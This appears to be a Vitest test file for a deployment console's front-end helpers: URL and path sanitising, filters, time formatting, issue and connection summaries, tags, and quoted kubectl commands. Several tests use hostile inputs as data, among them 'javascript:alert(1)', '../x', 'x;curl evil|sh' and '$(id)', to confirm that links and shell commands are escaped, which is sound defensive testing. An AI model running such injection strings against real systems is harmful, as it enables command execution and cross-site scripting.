import { expect, test } from "vitest";
import { problems } from "../src/lib/attention";
import { entryOf } from "../src/lib/build";
import { bindingOf, exampleFor, unbinding } from "../src/lib/commands";
import { stateOf } from "../src/lib/connections";
import { changedSearch, readFilters } from "../src/lib/filters";
import { bars, capped, counted, whatFailed } from "../src/lib/issues";
import { path, safeUrl } from "../src/lib/links";
import { withoutTag, withTag } from "../src/lib/tags";
import { duration, relative } from "../src/lib/time";

test.each([
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,x",
  "//evil",
  "vbscript:x",
  "",
  null,
  "x y",
])("%s is no link", (text) => {
  expect(safeUrl(text)).toBeUndefined();
});

test("http and https are links", () => {
  expect(safeUrl("https://a.example/b?c=d")).toBe("https://a.example/b?c=d");
  expect(safeUrl("http://a.example")).toBe("http://a.example/");
});

test("names in paths cannot leave their part", () => {
  expect(path("acme", "../x", "a/b?c#d")).toBe("/acme/..%2Fx/a%2Fb%3Fc%23d");
});

test("filters are read from the URL and written to it, and empty ones are left out", () => {
  const search = changedSearch("status=dead&task=orders", { status: "", search: "a & b" });
  expect(readFilters(search, ["status", "task", "search"])).toEqual({
    status: "",
    task: "orders",
    search: "a & b",
  });
});

test("times are said from now, and lengths in the unit that fits", () => {
  const now = Date.parse("2026-01-02T00:00:00Z");
  expect(relative("2026-01-01T23:59:18Z", now)).toBe("42 s ago");
  expect(relative("2026-01-05T00:00:00Z", now)).toBe("in 3 d");
  expect(relative("no time", now)).toBe("no time");
  expect([0.25, 12, 1250, 62_000, 3_720_000].map(duration)).toEqual([
    "250 µs",
    "12 ms",
    "1.25 s",
    "1 min 2 s",
    "1 h 2 min",
  ]);
});

test("what is broken comes with the worst first", () => {
  const now = Date.parse("2026-01-02T00:00:00Z");
  const environment = {
    id: "e1",
    name: "production",
    status: "error",
    message: "main.py does not load",
    lastDeployedAt: "",
  };
  const project = { id: "p1", name: "Orders", environments: [environment] };
  const run = {
    id: "r1",
    environmentId: "e1",
    task: "sync",
    kind: "event",
    status: "waiting",
    queuedAt: "2026-01-01T00:00:00Z",
    error: { type: "X", message: "no" },
  };
  const credential = (errors: string[], expiresAt: string | null) => ({
    credentials: [{ credential: { errors } }],
    expires: expiresAt ? [{ what: "token", at: expiresAt, credentialId: "k1" }] : [],
  });
  const issue = {
    id: "i1",
    projectId: "p1",
    environmentId: "e1",
    kind: "event",
    task: "nightly",
    type: "builtins.KeyError",
    message: "no such table",
    state: "open",
    count: 10_000,
    users: 1000,
    firstVersion: { name: "v7" },
    lastSeen: "2026-01-01T23:30:00Z",
  };
  const issues = [
    issue,
    { ...issue, id: "i2", task: "orders", count: 1, users: 0, lastSeen: "2026-01-01T09:00:00Z" },
    {
      ...issue,
      id: "i3",
      task: "sync",
      system: "Shop",
      upstreamStatus: 503,
      state: "regressed",
      regressedIn: { name: "v8" },
    },
  ];
  const waiting = [
    { ...run, status: "waiting", task: "import" },
    { ...run, status: "waiting", task: "asleep", error: undefined },
    { ...run, status: "waiting", task: "nightly" },
  ];
  const connections = [
    { id: "c1", name: "soon", ...credential([], "2026-01-03T00:00:00Z") },
    { id: "c2", name: "refused", ...credential(["the token is revoked"], null) },
    { id: "c3", name: "fine", ...credential([], "2027-01-01T00:00:00Z") },
    {
      id: "c4",
      name: "Shop",
      ...credential([], null),
      refused: { status: 401, count: 12, since: "2026-01-01T00:00:00Z", lastAt: "2026-01-01T23:00:00Z" },
    },
  ];
  const late = [
    {
      id: "s1",
      name: "nightly",
      projectId: "p1",
      projectName: "Orders",
      environmentId: "e1",
      environmentName: "production",
      missed: "2026-01-01T22:00:00Z",
    },
  ];
  const found = problems({ projects: [project], issues, waiting, connections, late } as never, now);
  expect(found.map((each) => each.title)).toEqual([
    "Orders · production is in error",
    "Shop: its system refuses the credentials",
    "Connection refused cannot be used",
    "sync: Shop answered 503 again",
    "nightly: KeyError",
    "Schedule nightly did not run",
    "1 run of import failed and is being retried",
    "orders: KeyError",
    "Connection soon expires soon",
  ]);
  expect(found[1]?.detail).toContain("at least 12 requests with 401");
  expect(found[3]?.detail).toBe("Orders · production: 10,000 runs, 1,000+ users, since v8: no such table");
  expect(found[4]?.href).toBe("/projects/p1/issues/i1");
  expect(found[5]?.href).toBe("/schedules?project=p1&environment=production");
  expect(found[6]?.href).toBe("/runs?status=waiting&task=import&project=p1&environment=production");
});

test.each([
  ["works", null, "works"],
  ["works", "2026-01-03T00:00:00Z", "expires soon"],
  ["works", "2026-01-01T00:00:00Z", "expired"],
  ["not_checked", null, "not checked"],
  ["not_authorised", null, "not authorised"],
  ["refused", "2026-01-01T00:00:00Z", "refused"],
  ["invalid", null, "invalid"],
])("a connection that is %s and expires at %s is shown as %s", (state, expiresAt, shown) => {
  const expires = expiresAt ? [{ what: "certificate", at: expiresAt, credentialId: "k1" }] : [];
  const now = Date.parse("2026-01-02T00:00:00Z");
  expect(stateOf({ state, credentials: [], expires } as never, now).state).toBe(shown);
});

test("what a system said is among what is wrong", () => {
  const refused = { status: 401, count: 1, said: "key revoked" };
  const found = stateOf({ state: "refused", credentials: [], expires: [], refused } as never, 0);
  expect(found.errors).toEqual([
    "It answered a request with 401: “key revoked”. Runs that use the connection fail.",
  ]);
});

test("another build has another entry script", () => {
  const html = '<script type="module" crossorigin src="/console/assets/index-Ab1.js"></script>';
  expect(entryOf(html)).toBe("/console/assets/index-Ab1.js");
  expect(entryOf("<html></html>")).toBeUndefined();
});

test("the example is moved to the organisation's namespace without its own", () => {
  expect(exampleFor("acme")).toBe("kubectl apply -k examples/quickstart");
  expect(exampleFor("shop")).toContain("namespace: shop/");
});

test("several tags are several parameters of the URL, and each can be added and removed", () => {
  const both = withTag("order:N-1101", { name: "note", value: "a:b & c" });
  expect(both).toBe("order:N-1101\nnote:a:b & c");
  expect(withTag(both, { name: "order", value: "N-1101" })).toBe(both);
  const url = changedSearch("status=dead", { tag: both });
  expect(url).toBe("status=dead&tag=order%3AN-1101&tag=note%3Aa%3Ab+%26+c");
  expect(readFilters(url, ["tag", "status"])).toEqual({ tag: both, status: "dead" });
  expect(changedSearch(url, { tag: withoutTag(both, "order:N-1101") })).toBe("status=dead&tag=note%3Aa%3Ab+%26+c");
  expect(withoutTag("order:N-1101", "order:N-1101")).toBe("");
});

test("a small chart shows few beside many, and nothing as nothing", () => {
  expect(bars([0, 1, 50, 100]).map((each) => each.height)).toEqual([0, 0.12, 0.5, 1]);
  expect(bars([0, 0]).map((each) => each.height)).toEqual([0, 0]);
});

test.each([
  [{ type: "tieline.errors.UpstreamError", system: "Shop", upstreamStatus: 503 }, "Shop answered 503"],
  [{ type: "main.OrderError" }, "OrderError"],
  [{ type: "KeyError" }, "KeyError"],
  [{ type: "" }, "failed"],
])("what failed is said in a few words", (issue, said) => {
  expect(whatFailed(issue as never)).toBe(said);
});

test("a count that stops says so", () => {
  const users = [1, 999, 1000].map((each) => counted(each, "user", capped(each)));
  expect(users).toEqual(["1 user", "999 users", "1,000+ users"]);
  expect(counted(1000, "run")).toBe("1,000 runs");
});

test("what others named cannot end a command that is copied", () => {
  expect(unbinding("x;curl evil|sh", "acme")).toBe("kubectl delete rolebinding -n acme -- 'x;curl evil|sh'");
  expect(unbinding("ops", "acme")).toBe("kubectl delete rolebinding -n acme -- ops");
  expect(bindingOf("CI's", "login:ci's $(id)", "acme")).toBe(
    "kubectl create rolebinding ci-s -n acme --clusterrole=tieline-editor --user='login:ci'\\''s $(id)'",
  );
});
